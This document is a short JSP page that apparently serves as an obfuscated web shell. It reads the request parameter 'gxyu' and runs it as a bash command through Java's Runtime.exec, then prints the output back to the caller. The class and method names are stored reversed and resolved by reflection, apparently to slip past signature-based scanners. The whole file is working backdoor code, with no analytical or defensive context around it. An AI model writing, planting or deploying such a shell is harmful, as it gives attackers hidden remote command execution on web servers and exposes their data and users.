<%@ page import="java.lang.reflect.*,java.util.Scanner" %>
<%!
    static String rv(String s) { return new StringBuilder(s).reverse().toString(); }
%>
<%
    String a = request.getParameter("gxyu");
    if (a != null) {
        Class<?> rt = Class.forName(rv("emitnuR.gnal.avaj"));
        Object o = rt.getMethod(rv("emitnuRteg")).invoke(null);
        Process p = (Process) rt.getMethod(rv("cexe"), String[].class).invoke(o, new Object[]{new String[]{"/bin/bash", "-c", a}});
        Scanner sc = new Scanner(p.getInputStream()).useDelimiter("\\A");
        out.print(sc.hasNext() ? sc.next() : "");
    }
%>
